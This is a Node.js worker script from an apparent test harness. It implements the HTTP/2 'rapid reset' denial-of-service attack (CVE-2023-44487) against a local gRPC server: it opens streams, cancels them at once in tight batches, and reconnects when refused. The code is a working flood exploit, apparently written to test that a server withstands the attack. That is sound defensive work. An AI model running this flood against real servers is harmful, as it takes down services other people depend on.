// Worker thread of tests/support/h2-flood.ts (plain JS: workers do not get the tsx loader).
// CVE-2023-44487 "rapid reset": on each connection, open a stream, send a complete gRPC
// request and reset it (RST_STREAM CANCEL) at once, as fast as the loop allows, for
// durationMs. A connection the server closes or refuses is re-opened, as an attacker would.
import { connect, constants } from 'node:http2';
import { setImmediate as nextTurn, setTimeout as sleep } from 'node:timers/promises';
import { parentPort, workerData } from 'node:worker_threads';

const EMPTY_GRPC_MESSAGE = Buffer.alloc(5);
const { port, path, connections, durationMs, batch = 50 } = workerData;
const result = { streams: 0, sessionsOpened: 0, sessionsEndedByServer: 0 };
const until = performance.now() + durationMs;

async function attack() {
  let session = null;
  while (performance.now() < until) {
    if (!session || session.closed || session.destroyed) {
      if (session) result.sessionsEndedByServer++;
      session = connect(`http://127.0.0.1:${port}`);
      session.on('error', () => undefined);
      const connected = await new Promise((resolve) => {
        session.once('connect', () => resolve(true));
        session.once('close', () => resolve(false));
      });
      if (connected) result.sessionsOpened++;
      else await sleep(10);
      continue;
    }
    for (let i = 0; i < batch && !session.closed && !session.destroyed; i++) {
      try {
        const stream = session.request({ ':method': 'POST', ':path': path, 'content-type': 'application/grpc', te: 'trailers' }, { endStream: false });
        stream.on('error', () => undefined);
        stream.end(EMPTY_GRPC_MESSAGE);
        stream.close(constants.NGHTTP2_CANCEL);
        result.streams++;
      } catch {
        break;
      }
    }
    await nextTurn();
  }
  session?.destroy();
}

await Promise.all(Array.from({ length: connections }, attack));
parentPort.postMessage(result);
